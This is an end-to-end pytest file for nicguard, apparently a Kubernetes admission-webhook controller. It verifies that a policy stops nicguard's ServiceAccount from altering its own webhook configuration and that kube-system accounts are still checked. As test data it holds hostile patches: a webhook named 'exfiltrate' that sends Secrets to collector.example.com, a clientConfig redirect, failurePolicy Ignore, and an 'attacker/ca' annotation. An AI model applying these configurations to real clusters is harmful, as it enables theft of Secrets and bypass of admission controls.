"""nicguard cannot be turned against the cluster (docs/operations.md, Security), on the real
apiserver: its ServiceAccount may change nothing of the webhook configuration but the caBundle
(the shipped ValidatingAdmissionPolicy refuses the rest, even where RBAC would allow it), and
only the namespace controller and the garbage collector are exempt from its webhooks: any other
ServiceAccount of kube-system, and kube-system itself, are judged.

Namespace deletion with the recipe in it: tests/e2e/test_protect.py (a real namespace
controller). The certificate controller's caBundle patches under the policy:
tests/e2e/test_rotation_drill.py.
"""

from __future__ import annotations

import base64
import json
from collections.abc import Iterator
from typing import Any, Final

import pytest

from tests.harness import expect
from tests.harness.objects import RECIPE_PAIRS, as_list, runtime, unique, with_pairs
from tests.harness.stack import Stack
from tests.harness.state import NETWORKS, Run, checked
from tests.harness.webhook import CONFIGURATION_POLICY, wait_policy_effective

pytestmark = pytest.mark.e2e

CONFIGURATION: Final = "nicguard"
VWC: Final = "validatingwebhookconfiguration"
REFUSED: Final = (
    f"ValidatingAdmissionPolicy '{CONFIGURATION_POLICY}' with binding "
    f"'{CONFIGURATION_POLICY}' denied request"
)
DIVERGES: Final = "MappingDivergesFromRecipe"
# A ServiceAccount of kube-system that is neither the namespace controller nor the garbage
# collector, as the apiserver authenticates it (kubectl --as with its groups).
OPERATOR: Final = [
    "--as=system:serviceaccount:kube-system:cluster-autoscaler",
    "--as-group=system:serviceaccounts",
    "--as-group=system:serviceaccounts:kube-system",
]
GARBAGE_COLLECTOR: Final = [
    "--as=system:serviceaccount:kube-system:generic-garbage-collector",
    "--as-group=system:serviceaccounts",
    "--as-group=system:serviceaccounts:kube-system",
]
# What a cluster admin might grant by mistake: every write of every webhook configuration.
BROAD_RBAC: Final = [
    {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRole",
        "metadata": {"name": "e2e-webhook-writer"},
        "rules": [
            {
                "apiGroups": ["admissionregistration.k8s.io"],
                "resources": ["validatingwebhookconfigurations", "mutatingwebhookconfigurations"],
                "verbs": ["get", "list", "create", "update", "patch", "delete"],
            }
        ],
    },
    {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": "e2e-webhook-writer"},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "e2e-webhook-writer",
        },
        "subjects": [
            {"kind": "ServiceAccount", "name": "nicguard", "namespace": "nicguard-system"}
        ],
    },
]
# A kube-system workload with broad rights (as cluster add-ons often have).
KUBE_SYSTEM_RBAC: Final = [
    {
        "apiVersion": "rbac.authorization.k8s.io/v1",
        "kind": "ClusterRoleBinding",
        "metadata": {"name": "e2e-kube-system-operator"},
        "roleRef": {
            "apiGroup": "rbac.authorization.k8s.io",
            "kind": "ClusterRole",
            "name": "cluster-admin",
        },
        "subjects": [
            {"kind": "ServiceAccount", "name": "cluster-autoscaler", "namespace": "kube-system"}
        ],
    }
]


@pytest.fixture(autouse=True)
def policy_in_effect(stack: Stack) -> None:
    wait_policy_effective(stack.plane)


def as_nicguard(stack: Stack, *args: str) -> Run:
    """``kubectl`` with nicguard's own credentials (its ServiceAccount's identity)."""
    return stack.kubectl(*args, who="nicguard")


def patch(stack: Stack, who: str, operations: list[dict[str, Any]], *, dry_run: bool = True) -> Run:
    args = ["patch", VWC, CONFIGURATION, "--type=json", "-p", json.dumps(operations)]
    return stack.kubectl(*args, *(["--dry-run=server"] if dry_run else []), who=who)


def refused(run: Run) -> None:
    assert run.returncode == 1, expect.shown(run)
    assert f"is forbidden: {REFUSED}" in run.stderr, expect.shown(run)


def configuration(stack: Stack) -> dict[str, Any]:
    run = stack.kubectl("get", VWC, CONFIGURATION, "-o", "json", who="admin")
    found: dict[str, Any] = json.loads(checked(run, "reading the webhook configuration").stdout)
    return found


SECRETS_RULE: Final = {
    "apiGroups": [""],
    "apiVersions": ["v1"],
    "operations": ["CREATE", "UPDATE"],
    "resources": ["secrets"],
    "scope": "*",
}
# Each a JSON patch of the configuration that only the caBundle rule forbids to nicguard.
FORBIDDEN: Final[dict[str, list[dict[str, Any]]]] = {
    "a rule for Secrets": [{"op": "add", "path": "/webhooks/0/rules/-", "value": SECRETS_RULE}],
    "clientConfig to another URL": [
        {
            "op": "replace",
            "path": "/webhooks/0/clientConfig/url",
            "value": "https://collector.example.com/validate",
        }
    ],
    "failurePolicy Ignore": [
        {"op": "replace", "path": "/webhooks/0/failurePolicy", "value": "Ignore"}
    ],
    "a webhook removed": [{"op": "remove", "path": "/webhooks/1"}],
    "a matchCondition removed": [{"op": "remove", "path": "/webhooks/0/matchConditions/0"}],
    "an objectSelector": [
        {
            "op": "add",
            "path": "/webhooks/0/objectSelector",
            "value": {"matchLabels": {"skip": "me"}},
        }
    ],
    "an annotation": [
        {
            "op": "add",
            "path": "/metadata/annotations",
            "value": {"cert-manager.io/inject-ca-from": "attacker/ca"},
        }
    ],
}


@pytest.mark.parametrize("change", list(FORBIDDEN))
def test_nicguard_cannot_change_its_webhook_configuration_but_the_ca_bundle(
    stack: Stack, change: str
) -> None:
    """RBAC lets nicguard's ServiceAccount patch the configuration; the policy refuses every
    change but the caBundle. An admin may make the same change (the policy is about nicguard)."""
    before = configuration(stack)
    refused(patch(stack, "nicguard", FORBIDDEN[change]))
    refused(patch(stack, "nicguard", FORBIDDEN[change], dry_run=False))
    expect.allowed(patch(stack, "admin", FORBIDDEN[change]), "patched")
    assert configuration(stack)["webhooks"] == before["webhooks"]


def test_nicguard_may_change_the_ca_bundle(stack: Stack) -> None:
    """What the certificate controller does (a strategic merge patch of every caBundle), with
    another bundle: admitted (server dry run: the live bundle stays)."""
    bundle = base64.b64encode(b"-----BEGIN CERTIFICATE-----\nMA==\n-----END CERTIFICATE-----\n")
    hooks = [
        {"name": h["name"], "clientConfig": {"caBundle": bundle.decode()}}
        for h in configuration(stack)["webhooks"]
    ]
    smp = json.dumps({"webhooks": hooks})
    args = ["patch", VWC, CONFIGURATION, "--type=strategic", "-p", smp, "--dry-run=server"]
    run = as_nicguard(stack, *args)
    expect.allowed(run, "patched")
    # And together with anything else, refused.
    hooks[0]["timeoutSeconds"] = 30
    smp = json.dumps({"webhooks": hooks})
    args = ["patch", VWC, CONFIGURATION, "--type=strategic", "-p", smp, "--dry-run=server"]
    refused(as_nicguard(stack, *args))


@pytest.fixture
def broad_rbac(stack: Stack) -> Iterator[None]:
    """nicguard's ServiceAccount allowed, by RBAC, every write of every webhook configuration."""
    checked(stack.apply(*BROAD_RBAC, who="admin"), "granting webhook writes")
    try:
        yield
    finally:
        run = stack.plane.kubectl("admin", "delete", "-f", "-", input=as_list(BROAD_RBAC))
        checked(run, "withdrawing webhook writes")


def other_configuration(kind: str) -> dict[str, Any]:
    hook: dict[str, Any] = {
        "name": "exfiltrate.example.com",
        "admissionReviewVersions": ["v1"],
        "sideEffects": "None",
        "failurePolicy": "Ignore",
        "clientConfig": {"url": "https://collector.example.com/"},
        "rules": [SECRETS_RULE],
    }
    return {
        "apiVersion": "admissionregistration.k8s.io/v1",
        "kind": kind,
        "metadata": {"name": unique("exfiltrate")},
        "webhooks": [hook],
    }


def test_with_rbac_to_spare_nicguard_still_writes_no_other_configuration(
    stack: Stack, broad_rbac: None
) -> None:
    """Should someone grant nicguard's ServiceAccount more, the policy still holds: no other
    configuration created, its own neither deleted nor replaced."""
    for kind in ("ValidatingWebhookConfiguration", "MutatingWebhookConfiguration"):
        created = other_configuration(kind)
        refused(stack.apply(created, who="nicguard"))
        expect.allowed(stack.apply(created, who="admin", dry_run=True), "created")
    refused(as_nicguard(stack, "delete", VWC, CONFIGURATION, "--dry-run=server"))
    replaced = configuration(stack)
    replaced["webhooks"][0]["failurePolicy"] = "Ignore"
    run = stack.plane.kubectl(
        "nicguard", "replace", "-f", "-", "--dry-run=server", input=json.dumps(replaced)
    )
    refused(run)
    refused(patch(stack, "nicguard", FORBIDDEN["a rule for Secrets"]))


@pytest.fixture
def kube_system_operator(stack: Stack) -> Iterator[None]:
    checked(stack.apply(*KUBE_SYSTEM_RBAC, who="admin"), "binding the kube-system operator")
    try:
        yield
    finally:
        run = stack.plane.kubectl("admin", "delete", "-f", "-", input=as_list(KUBE_SYSTEM_RBAC))
        checked(run, "unbinding the kube-system operator")


def test_a_kube_system_service_account_is_judged(stack: Stack, kube_system_operator: None) -> None:
    """Not the namespace controller nor the garbage collector: its drifted runtime is denied, its
    deletion of an in-use Network refused. The garbage collector's identity is still exempt."""
    name = unique("tcpxo-kube-system-sa")
    drifted = runtime(name, pairs=with_pairs(RECIPE_PAIRS, (1, 2)), recipe_bound=True)
    apply = ["apply", "-f", "-"]
    run = stack.plane.kubectl("admin", *OPERATOR, *apply, input=as_list([drifted]))
    expect.denied(run, f"ClusterTrainingRuntime/{name}", DIVERGES)
    delete = ["delete", NETWORKS, "gpu-nic-3", "--dry-run=server"]
    expect.denied(
        stack.kubectl(*OPERATOR, *delete, who="admin"), "Network/gpu-nic-3", "NetworkInUse"
    )
    # The same writes by the garbage collector (its RBAC: get, patch, update, delete) pass.
    expect.allowed(stack.apply(runtime(name, recipe_bound=True), who="admin"), "created")
    run = stack.plane.kubectl(
        "admin", *GARBAGE_COLLECTOR, *apply, "--dry-run=server", input=as_list([drifted])
    )
    expect.allowed(run, "configured (server dry run)")
    run = stack.plane.kubectl("admin", *OPERATOR, *apply, input=as_list([drifted]))
    expect.denied(run, f"ClusterTrainingRuntime/{name}", DIVERGES)
    expect.allowed(stack.kubectl(*GARBAGE_COLLECTOR, *delete, who="admin"), "deleted")


def test_objects_in_kube_system_and_nicguards_namespace_are_judged(stack: Stack) -> None:
    for namespace in ("kube-system", "nicguard-system"):
        name = unique("tr-system")
        drifted = runtime(name, namespace=namespace, pairs=with_pairs(RECIPE_PAIRS, (1, 2)))
        drifted["metadata"]["labels"]["nicguard.dev/recipe-bound"] = "true"
        expect.denied(
            stack.apply(drifted, who="admin", dry_run=True),
            f"TrainingRuntime/{namespace}/{name}",
            DIVERGES,
        )
